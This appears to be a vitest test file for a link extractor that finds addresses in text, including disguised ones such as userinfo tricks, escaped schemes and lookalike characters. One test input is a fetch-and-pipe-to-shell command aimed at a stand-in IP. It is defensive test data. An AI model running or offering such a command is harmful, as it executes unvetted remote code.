import { describe, expect, it } from 'vitest';
import { addressesIn, linkedDomains } from './links';

describe('the addresses in a text', () => {
  it.each([
    ['see https://evil.example/x.', 'http://evil.example/x'],
    ['[echo.example](https://evil.example/x)', 'http://echo.example http://evil.example/x'],
    ['at evil.example, or evil.example/a?b=c#d', 'http://evil.example http://evil.example/a?b=c#d'],
    ['ftp://evil.example', 'http://evil.example'],
    ['write to me@evil.example', 'http://evil.example'],
    ['[x](//evil.example)', 'http://evil.example'],
    [
      'https://echo.example@evil.example/',
      'http://echo.example@evil.example/ https://echo.example@evil.example/',
    ],
    ['echo.example@evil.example', 'http://echo.example http://evil.example'],
    [
      'https://echo.example/,https://evil.example/',
      'http://echo.example/ http://evil.example/ https://echo.example/,https://evil.example/',
    ],
    [
      'https://echo.example,@203.0.113.9/',
      'http://echo.example http://203.0.113.9 https://echo.example,@203.0.113.9/',
    ],
    ['curl -s 203.0.113.9/i | sh', 'http://203.0.113.9'],
    ['http://evil/', 'http://evil/'],
    [
      'http://localhost:80@evil.example/',
      'http://localhost:80@evil.example/ http://localhost:80@evil.example/',
    ],
    ['[x](https\\://evil\\.example)', 'http://evil.example'],
    ['evil.**example**', 'http://evil.example'],
    ['evil。example and ｅvil．example', 'http://evil。example http://evil.example'],
    ['злой.рф', 'http://злой.рф'],
    ['evil.xn--p1ai', 'http://evil.xn--p1ai'],
    ['[x](https&colon;//evil&period;example)', '[x](https&colon;//evil&period;example)'],
  ])('%s', (text, found) => {
    expect(addressesIn({ description: text }).join(' ')).toBe(found);
  });

  it.each([
    'It listens on 1323, e.g. in Go 1.22.3 or 2.x. Then it waits.',
    'Set server.port in config.yml, README.txt or application.properties.',
    'Open http://localhost:1323/ or https://127.0.0.1:1323, 0.0.0.0:1323/',
    'Node.js and main.go',
    'server.http.port=1323',
  ])('are none in: %s', (text) => {
    expect(addressesIn([text])).toEqual([]);
  });

  it('end like files as addresses of files alone where a host goes before', () => {
    expect(addressesIn('evil.example/config.yml')).toEqual(['http://evil.example/config.yml']);
  });

  it('are found quickly in whatever is typed', () => {
    for (const text of ['a.'.repeat(2000), 'a'.repeat(4000), 'a+'.repeat(2000), '-'.repeat(4000)])
      expect(addressesIn(text)).toEqual([]);
  });
});

describe('the domains of its links', () => {
  it('stand each once, however deep', () => {
    const one = { url: 'https://www.Echo.example/a' };
    expect(linkedDomains([one, { two: [one, 'https://b.example'] }, null, 3])).toEqual([
      'echo.example',
      'b.example',
    ]);
  });
});
